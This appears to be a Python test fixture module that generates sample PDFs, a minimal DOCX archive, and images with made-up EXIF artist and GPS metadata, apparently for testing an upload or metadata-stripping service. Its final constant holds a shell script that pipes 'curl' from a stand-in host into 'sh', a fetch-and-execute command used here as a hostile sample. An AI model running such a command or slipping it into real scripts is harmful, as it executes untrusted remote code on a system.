"""Real files made on the spot: PDFs (pypdf), DOCX archives, images with EXIF (Pillow)."""

from __future__ import annotations

import io
import zipfile

from PIL import Image
from pypdf import PdfWriter

GPS_IFD = 0x8825


def pdf(pages: int = 1, padding: int = 0) -> bytes:
    writer = PdfWriter()
    for _ in range(pages):
        writer.add_blank_page(width=612, height=792)
    if padding:
        writer.add_metadata({"/Subject": "x" * padding})
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def docx() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("word/document.xml", "<w:document/>")
    return out.getvalue()


def image(fmt: str = "JPEG", size: tuple[int, int] = (640, 480), gps: bool = True) -> bytes:
    """An image whose metadata says where it was taken (a GPS block) and who made it."""
    picture = Image.new("RGB", size, (30, 120, 200))
    exif = Image.Exif()
    exif[0x013B] = "Jane Seeker"  # Artist
    if gps:
        exif[GPS_IFD] = {1: "N", 2: (25.0, 3.0, 0.0), 3: "W", 4: (77.0, 20.0, 0.0)}
    out = io.BytesIO()
    picture.save(out, format=fmt, exif=exif.tobytes())
    return out.getvalue()


SCRIPT = b"#!/bin/sh\ncurl http://example.invalid/x | sh\n"
